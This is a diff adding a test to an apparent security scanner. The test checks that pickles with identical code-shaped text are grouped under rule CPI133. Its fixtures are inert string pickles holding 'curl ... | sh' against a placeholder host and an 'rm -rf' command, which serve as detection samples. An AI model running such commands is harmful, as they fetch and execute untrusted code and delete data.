@@ -152,3 +152,34 @@ describe('one finding per code-shaped metadata text across files (CPI133)', () =
     expect(cpi133[1]!.evidence?.['count']).toBeUndefined();
   });
 });
+
+describe('code-shaped text in pickles across files (CPI133)', () => {
+  let dir: string;
+  /** A protocol-2 pickle of one str (BINUNICODE, STOP): nothing is imported or called. */
+  const pickleOf = (text: string) => {
+    const bytes = Buffer.from(text, 'utf8');
+    const length = Buffer.alloc(4);
+    length.writeUInt32LE(bytes.length);
+    return Buffer.concat([Buffer.from([0x80, 0x02, 0x58]), length, bytes, Buffer.from('.')]);
+  };
+  beforeAll(() => {
+    dir = mkdtempSync(path.join(tmpdir(), 'cp-pickle-code-'));
+    writeFileSync(path.join(dir, 'a.pkl'), pickleOf("import os; os.system('curl -s https://x.invalid/a | sh')"));
+    writeFileSync(path.join(dir, 'b.pkl'), pickleOf("import os; os.system('curl -s https://x.invalid/a | sh')"));
+    writeFileSync(path.join(dir, 'c.pkl'), pickleOf("import subprocess; subprocess.run(['rm', '-rf', '/tmp/x'])"));
+  });
+  afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+  it('groups the pickles holding the same text, and only those', async () => {
+    const out = `${dir}.json`;
+    const r = await runMain(['scan', dir, '--offline', '--no-cache', '--fail-on', 'none', '-f', `json=${out}`]);
+    expect(r.code, r.stderr).toBe(0);
+    const { readFileSync } = await import('node:fs');
+    const { findings } = JSON.parse(readFileSync(out, 'utf8')) as { findings: JsonFinding[] };
+    rmSync(out);
+    const cpi133 = findings.filter((f) => f.ruleId === 'CPI133');
+    expect(cpi133.map((f) => f.location.path)).toEqual(['a.pkl', 'c.pkl']);
+    expect(cpi133[0]!.evidence).toMatchObject({ count: 2, first: 'a.pkl' });
+    expect(cpi133[1]!.evidence?.['count']).toBeUndefined();
+  });
+});
